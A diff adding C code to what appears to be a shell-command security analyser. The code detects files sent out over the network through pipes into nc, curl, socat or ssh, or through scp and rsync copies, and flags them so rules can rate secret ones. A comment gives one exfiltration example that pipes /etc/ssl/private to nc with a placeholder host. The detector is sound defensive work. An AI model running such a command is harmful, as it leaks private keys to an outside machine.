@@ -1,0 +1,91 @@
+/* Files sent to another computer: what a pipeline's earlier commands read,
+ * piped into a network program (tar czf - /etc/ssl/private | nc HOST PORT),
+ * or what scp and rsync copy to HOST:PATH. Added as the command
+ * "(chain) send-out DESTINATION" whose values are the files, so a rule can
+ * name them and rate the secret ones (rules/60-data-network.yaml). */
+#include "chains.h"
+
+#include "util/grow.h"
+#include "util/xmalloc.h"
+
+#include <string.h>
+
+static int one_of(const char *name, const char *const *names)
+{
+	for (; *names; names++)
+		if (strcmp(name, *names) == 0)
+			return 1;
+	return 0;
+}
+
+/* The other computer a network program talks to: its first operand that
+ * looks like a host or address, else its first operand. */
+static const char *destination(const struct real_command *c)
+{
+	for (size_t i = 0; i < c->operands.n; i++)
+		if (strpbrk(c->operands.items[i], ".:@") != NULL)
+			return c->operands.items[i];
+	return c->operands.n > 0 ? c->operands.items[0] : NULL;
+}
+
+/* scp/rsync's HOST:PATH target (not a URL), or NULL. */
+static const char *remote_target(const struct real_command *c)
+{
+	static const char *const copiers[] = {"scp", "rsync", NULL};
+
+	if (!one_of(c->name, copiers))
+		return NULL;
+	for (size_t i = 0; i < c->writes.n; i++)
+		if (strchr(c->writes.items[i], ':') && !strstr(c->writes.items[i], "://"))
+			return c->writes.items[i];
+	return NULL;
+}
+
+static void add_send(struct analysis *a, const char *dest, const struct strlist *files)
+{
+	struct real_command *c;
+
+	a->cmds = grow_array(a->cmds, a->n, sizeof(*a->cmds));
+	c = &a->cmds[a->n++];
+	memset(c, 0, sizeof(*c));
+	c->name = xstrdup(CHAIN_COMMAND);
+	c->path = xstrdup(CHAIN_COMMAND);
+	strlist_add(&c->args, "send-out");
+	strlist_add(&c->operands, "send-out");
+	strlist_add(&c->args, dest);
+	strlist_add(&c->operands, dest);
+	for (size_t i = 0; i < files->n; i++)
+		strlist_add(&c->values, files->items[i]);
+}
+
+/* The files read by the commands piping, one after another, into cmds[i]. */
+static void piped_reads(const struct analysis *a, size_t i, struct strlist *out)
+{
+	for (size_t k = i; k-- > 0 && a->cmds[k].piped_to != NULL;)
+		for (size_t f = 0; f < a->cmds[k].reads.n; f++)
+			strlist_add(out, a->cmds[k].reads.items[f]);
+}
+
+void chains_find_sends(struct analysis *a)
+{
+	static const char *const network[] = {"nc",  "ncat",	"netcat", "socat",	"curl",
+					      "ssh", "openssl", "telnet", "nc.openbsd", NULL};
+	size_t n = a->n;
+
+	for (size_t i = 0; i < n; i++) {
+		const struct real_command *c = &a->cmds[i];
+		const char *dest = remote_target(c);
+		struct strlist files = {0};
+		if (dest) {
+			for (size_t f = 0; f < c->reads.n; f++)
+				if (strcmp(c->reads.items[f], dest) != 0)
+					strlist_add(&files, c->reads.items[f]);
+		} else if (c->piped_from && one_of(c->name, network)) {
+			dest = destination(c);
+			piped_reads(a, i, &files);
+		}
+		if (dest && files.n > 0)
+			add_send(a, dest, &files);
+		strlist_free(&files);
+	}
+}
